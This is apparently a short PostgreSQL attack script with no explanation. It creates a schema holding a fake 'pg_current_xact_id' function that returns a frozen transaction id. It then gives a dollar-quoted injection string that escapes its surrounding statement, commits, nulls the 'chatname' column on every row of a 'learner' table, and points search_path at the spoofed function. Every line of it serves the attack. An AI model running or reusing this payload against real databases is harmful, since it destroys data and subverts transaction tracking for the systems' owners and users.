create schema other;
create table other.number as select pg_current_xact_id() as number;
create function other.pg_current_xact_id() returns xid8 language sql as 'select number from other.number';
select 1 as x$a$; commit; update learner set chatname = null; set search_path = other, pg_catalog, public; begin; select 2 as y$a$;
